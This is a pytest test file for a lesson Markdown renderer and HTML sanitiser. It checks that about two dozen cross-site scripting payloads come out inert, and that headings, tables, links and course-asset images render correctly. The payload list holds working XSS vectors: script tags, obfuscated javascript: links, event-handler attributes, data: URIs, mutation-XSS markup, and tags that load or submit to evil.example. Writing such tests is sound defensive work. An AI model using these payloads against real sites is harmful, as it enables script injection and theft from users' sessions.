"""Lesson Markdown renders the usual constructs and never lets script through."""

import re
from html.parser import HTMLParser

import pytest

from app.domain.markdown import (
    ALLOWED_TAGS,
    asset_reference,
    image_sources,
    render_markdown,
    sanitize_html,
)

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](jav&#x61;script:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))",
    "[click](%6A%61vascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<img src=x onerror=alert(1)>",
    "![x](x.png\"onerror=\"alert(1))",
    "![x\" onerror=\"alert(1)](assets/a.png)",
    "![pic](javascript:alert(1))",
    "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"position:fixed;top:0\">overlay</div>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<form action=\"https://evil.example\"><input name=p></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
]


#: A URL scheme as browsers read one; anything else (e.g. "%6A%61vascript:") is a relative path.
_SCHEME = re.compile(r"^\s*([a-z][a-z0-9+.-]*):", re.IGNORECASE)


class _Collector(HTMLParser):
    """Every tag and attribute of the output, as a browser would parse them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)


def _parsed(html: str) -> _Collector:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector


def _assert_inert(html: str) -> None:
    parsed = _parsed(html)
    assert set(parsed.tags) <= ALLOWED_TAGS, html
    for tag, name, value in parsed.attributes:
        assert not name.startswith("on"), html
        assert name != "style", html
        if name in ("href", "src"):
            scheme = _SCHEME.match(value)
            assert scheme is None or scheme[1].lower() in ("http", "https", "mailto"), html
        if tag == "img" and name == "src":
            assert value.startswith(("../assets/", "http://", "https://")), html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_rendered_payloads_carry_no_executable_vector(payload):
    _assert_inert(render_markdown(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_the_sanitiser_alone_stops_raw_html_payloads(payload):
    # The second layer must hold even if Markdown ever let raw HTML through.
    _assert_inert(sanitize_html(payload))


def test_sanitiser_strips_dangerous_links_and_images():
    html = sanitize_html('<a href="JAVASCRIPT:alert(1)">a</a><img src="data:image/png;base64,x">'
                         '<img src="assets/x.png" onerror="alert(1)">')
    assert "javascript" not in html.lower() and "data:" not in html and "onerror" not in html
    assert '<img src="../assets/x.png">' in html


def test_text_of_payloads_is_kept_escaped():
    assert render_markdown("<script>alert(1)</script>") == \
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"


def test_headings_lists_tables_and_code_render():
    html = render_markdown(
        "# 标题\n\n## 二级\n\n- 甲\n- 乙\n\n1. 一\n2. 二\n\n"
        "| 区县 | 事件数 |\n|---|--:|\n| 渝中区 | 12 |\n\n"
        "```sql\nSELECT * FROM grid_event;\n```\n\n"
        "行内 `code`、**粗体**、*斜体*、~~删除~~\n\n> 引用\n\n---\n")
    for fragment in ("<h1>标题</h1>", "<h2>二级</h2>", "<ul>", "<li>甲</li>", "<ol>",
                     "<table>", "<thead>", "<th>区县</th>", "<tbody>", "<td>渝中区</td>",
                     "<pre><code>SELECT * FROM grid_event;", "<code>code</code>",
                     "<strong>粗体</strong>", "<em>斜体</em>", "<s>删除</s>",
                     "<blockquote>", "<hr>"):
        assert fragment in html, fragment
    # Column alignment arrives as a style attribute, which is not allowed.
    assert "style" not in html


def test_links_get_rel_noopener_and_keep_their_title():
    html = render_markdown('[数字重庆](https://example.gov.cn "官网") [信箱](mailto:a@b.cn)')
    assert '<a href="https://example.gov.cn" title="官网" rel="noopener noreferrer">' in html
    assert '<a href="mailto:a@b.cn" rel="noopener noreferrer">' in html


@pytest.mark.parametrize("src", ["assets/chart.png", "./assets/chart.png", "../assets/chart.png"])
def test_course_asset_images_point_at_the_course_assets_url(src):
    html = render_markdown(f"![图]({src})")
    assert '<img src="../assets/chart.png" alt="图">' in html


@pytest.mark.parametrize("src", ["/etc/passwd", "images/x.png", "assets/sub/x.png",
                                 "../../assets/x.png", "ftp://host/x.png"])
def test_other_image_sources_are_dropped(src):
    html = render_markdown(f"![图]({src})")
    assert "src=" not in html and 'alt="图"' in html


def test_web_images_are_kept():
    assert '<img src="https://example.org/a.png" alt="a">' in render_markdown(
        "![a](https://example.org/a.png)")


def test_asset_reference_names_the_file():
    assert asset_reference("../assets/a-1.png") == "a-1.png"
    assert asset_reference("assets/a.png?x=1") is None
    assert asset_reference("assets/.hidden.png") is None
    assert asset_reference("https://x/assets/a.png") is None


def test_image_sources_report_lines_inside_paragraphs_and_tables():
    text = "段落\n\n第一行\n第二行 ![x](assets/q.png)\n\n| a |\n|---|\n| ![y](../assets/w.png) |\n"
    assert image_sources(text) == [(3, "assets/q.png"), (7, "../assets/w.png")]
